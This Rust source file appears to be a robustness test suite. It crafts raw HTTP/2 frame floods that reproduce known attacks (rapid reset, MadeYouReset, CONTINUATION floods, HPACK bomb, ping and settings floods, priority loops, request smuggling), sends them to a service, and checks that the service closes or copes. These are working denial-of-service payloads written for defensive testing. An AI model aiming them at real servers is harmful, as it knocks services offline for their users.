//! HTTP/2 frames that cost the sender less than the receiver.

use anyhow::{Result, ensure};
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::time::timeout;

use super::Attack;
use super::raw::PATIENCE;

/// Frames of one connection, and what must hold.
#[derive(Debug, Clone, Copy)]
pub struct Frames {
    /// Makes what is sent behind the preface.
    pub bytes: fn() -> Vec<u8>,
    /// Whether the attacker reads what comes back.
    pub reads: bool,
    /// Whether the service must close the connection by itself.
    pub ends: bool,
}

/// Types of frames (RFC 9113 §6).
mod kind {
    pub(super) const DATA: u8 = 0;
    pub(super) const HEADERS: u8 = 1;
    pub(super) const PRIORITY: u8 = 2;
    pub(super) const RST_STREAM: u8 = 3;
    pub(super) const SETTINGS: u8 = 4;
    pub(super) const PING: u8 = 6;
    pub(super) const WINDOW_UPDATE: u8 = 8;
    pub(super) const CONTINUATION: u8 = 9;
}

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `GET /` of host `h` (RFC 7541, appendix A): the document of versions.
const REQUEST: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'h'];
/// `POST /` of host `h`.
const POST: &[u8] = &[0x83, 0x86, 0x84, 0x41, 1, b'h'];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [length.get(1..).unwrap_or_default(), &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The frames of each of this many streams, whose numbers are odd.
fn streams(count: u32, of_stream: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..count).flat_map(|number| of_stream(2 * number + 1)).collect()
}

fn request(stream: u32) -> Vec<u8> {
    frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, REQUEST)
}

const fn row(
    name: &'static str,
    source: &'static str,
    bytes: fn() -> Vec<u8>,
    reads: bool,
    ends: bool,
) -> Attack<Frames> {
    Attack { name, source, how: Frames { bytes, reads, ends } }
}

/// The attacks. Each is made on the REST API without credentials, and on gRPC with the certificate of a reader.
pub const TABLE: &[Attack<Frames>] = &[
    row(
        "Each of 20,000 requests is reset at once",
        "CVE-2023-44487, rapid reset",
        || {
            streams(20_000, |stream| {
                [request(stream), frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
            })
        },
        true,
        true,
    ),
    row(
        "Each of 20,000 requests is one that the service must reset",
        "CVE-2025-8671, made you reset",
        || streams(20_000, |stream| [request(stream), frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4])].concat()),
        true,
        true,
    ),
    row(
        "A header goes on for 16 MiB of CONTINUATION frames",
        "CVE-2024-27316",
        || {
            // A literal field without indexing, again and again (RFC 7541 §6.2.2).
            let fields = [&[0, 1, b'x', 100][..], &[b'a'; 100]].concat().repeat(150);
            let mut all = frame(kind::HEADERS, END_STREAM, 1, REQUEST);
            (0..1000).for_each(|_| all.extend(frame(kind::CONTINUATION, 0, 1, &fields)));
            all
        },
        true,
        true,
    ),
    row(
        "CONTINUATION frames without content do not end",
        "CVE-2024-27983",
        || {
            let mut all = frame(kind::HEADERS, END_STREAM, 1, REQUEST);
            (0..500_000).for_each(|_| all.extend(frame(kind::CONTINUATION, 0, 1, &[])));
            all
        },
        true,
        true,
    ),
    row(
        "A small header is 4 MiB unpacked",
        "CVE-2016-6581, HPACK bomb",
        || {
            // A field of 4 KiB for the table (RFC 7541 §6.2.1), then an octet for each use of it (§6.1).
            let field = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'a'; 4000]].concat();
            let bomb = [REQUEST, &field, &[0xbe; 10_000]].concat();
            streams(20, |stream| frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &bomb))
        },
        true,
        false,
    ),
    row(
        "Header fields have neither name nor value",
        "CVE-2019-9516, 0-length headers leak",
        || {
            let bomb = [REQUEST, &[0; 15_000]].concat();
            streams(100, |stream| frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &bomb))
        },
        true,
        false,
    ),
    row(
        "Pings are sent and no answer is read",
        "CVE-2019-9512, ping flood",
        || frame(kind::PING, 0, 0, b"12345678").repeat(300_000),
        false,
        false,
    ),
    row(
        "Settings are sent and no answer is read",
        "CVE-2019-9515, settings flood",
        || frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(300_000),
        false,
        false,
    ),
    row(
        "Empty DATA frames do not end",
        "CVE-2019-9518, empty frames flood",
        || {
            let mut all = frame(kind::HEADERS, END_HEADERS, 1, POST);
            (0..500_000).for_each(|_| all.extend(frame(kind::DATA, 0, 1, &[])));
            all
        },
        true,
        false,
    ),
    row(
        "Priorities of streams change in circles",
        "CVE-2019-9513, resource loop",
        || {
            (0..200_000_u32)
                .flat_map(|number| {
                    let on = 2 * ((number + 1) % 100) + 1;
                    frame(kind::PRIORITY, 0, 2 * (number % 100) + 1, &[&on.to_be_bytes()[..], &[255]].concat())
                })
                .collect()
        },
        true,
        false,
    ),
    row(
        "Responses are asked for and not let through",
        "CVE-2019-9517, internal data buffering",
        || {
            let closed = frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
            [closed, streams(5000, request)].concat()
        },
        false,
        false,
    ),
    row(
        "A frame is larger than was agreed",
        "RFC 9113 §4.2",
        || frame(kind::HEADERS, END_STREAM | END_HEADERS, 1, &vec![0; 4 << 20]),
        true,
        true,
    ),
    row(
        "The window of the connection overflows",
        "RFC 9113 §6.9.1",
        || frame(kind::WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes()).repeat(3),
        true,
        true,
    ),
    row(
        "A pseudo-header field has a request of its own in it",
        "RFC 9113 §8.2.1, HTTP/2 request smuggling",
        || {
            let path = b"/ HTTP/1.1\r\nHost: h\r\n\r\nGET /v1/nodes";
            let length = u8::try_from(path.len()).unwrap_or_default();
            // A literal field without indexing with the name `:path` (index 4).
            let header = [&[0x82, 0x86, 0x41, 1, b'h', 0x04, length][..], path].concat();
            streams(1, |stream| frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &header))
        },
        true,
        false,
    ),
];

/// Sends the frames of a row over a connection.
///
/// # Errors
/// What did not hold.
pub async fn carry_out(stream: impl AsyncRead + AsyncWrite, frames: &Frames) -> Result<String> {
    let (mut from, mut to) = tokio::io::split(stream);
    let bytes = [PREFACE, &frame(kind::SETTINGS, 0, 0, &[]), &(frames.bytes)()].concat();
    let sending = async {
        // The service may close the connection while more is sent.
        let sent = to.write_all(&bytes).await;
        let _ = to.flush().await;
        sent.is_ok()
    };
    if !frames.reads {
        // A service that does not read on while its answers are not read is right.
        let sent = timeout(std::time::Duration::from_secs(3), sending).await;
        return Ok(match sent {
            Ok(true) => "all was read".to_owned(),
            Ok(false) => "closed".to_owned(),
            Err(_) => "the rest was not read".to_owned(),
        });
    }
    let reading = async {
        let (mut buffer, mut answers) = (vec![0; 64 << 10], 0);
        while let Ok(count @ 1..) = from.read(&mut buffer).await {
            answers += count;
        }
        answers
    };
    tokio::pin!(sending, reading);
    let until_sent = async {
        tokio::select! {
            answers = &mut reading => Some(answers),
            _ = &mut sending => None,
        }
    };
    let closed = match timeout(PATIENCE, until_sent).await {
        Ok(Some(answers)) => Some(answers),
        Ok(None) if !frames.ends => None,
        Ok(None) => timeout(PATIENCE, reading).await.ok(),
        Err(_) => None,
    };
    ensure!(closed.is_some() || !frames.ends, "the service keeps the connection");
    Ok(closed.map_or_else(|| "all was read".to_owned(), |answers| format!("closed after {answers} bytes of answers")))
}
